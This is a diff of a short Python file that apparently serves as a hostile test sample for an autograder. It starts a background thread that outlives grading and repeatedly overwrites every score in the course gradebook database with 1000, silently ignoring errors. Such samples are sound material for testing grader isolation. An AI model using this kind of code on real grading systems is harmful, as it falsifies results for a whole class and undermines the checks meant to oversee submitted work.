@@ -1,4 +1,5 @@
 """Leaves a process that changes the gradebook after grading."""
+# harms: class
 
 import os
 import sqlite3
@@ -7,10 +8,15 @@ import time
 
 
 def later():
-    time.sleep(0.2)
-    sqlite3.connect("@COURSE@/gradebook.db").execute(
-        "UPDATE grade SET auto_score = 1000"
-    ).connection.commit()
+    end = time.monotonic() + 60
+    while time.monotonic() < end:
+        time.sleep(0.02)
+        try:
+            gradebook = sqlite3.connect("@COURSE@/gradebook.db", isolation_level=None)
+            gradebook.execute("UPDATE grade SET auto_score = 1000 WHERE auto_score < 1000")
+            gradebook.close()
+        except sqlite3.Error:
+            pass
 
 
 threading.Thread(target=later, daemon=True).start()
